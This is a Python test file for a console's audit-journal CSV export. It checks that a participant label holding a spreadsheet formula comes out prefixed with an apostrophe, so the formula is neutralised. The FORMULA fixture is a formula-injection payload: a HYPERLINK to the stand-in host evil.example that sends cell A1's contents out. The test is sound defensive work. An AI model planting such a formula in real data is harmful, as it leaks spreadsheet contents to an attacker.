"""The console's CSV downloads: a formula in a label is shown as text."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

from starlette.testclient import TestClient

from tests.console.conftest import post, sign_in

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def test_the_audit_export_neutralises_a_participant_label(
    client: TestClient, add_staff: Callable[..., int]
) -> None:
    add_staff("Admin", "admin@example.org", role="admin")
    assert sign_in(client, "admin@example.org") == 303
    enrolment = {"label": FORMULA, "orientation_on": "2026-11-20"}
    assert post(client, "/caseload/enrol", enrolment, "/caseload") == 303
    export = client.get("/exports/journal.csv")
    assert export.text.startswith("\ufeffdate;qui;action;objet")
    rows = list(csv.reader(io.StringIO(export.text[1:]), delimiter=";"))
    targets = [row[3] for row in rows[1:]]
    assert "'" + FORMULA in targets and FORMULA not in targets
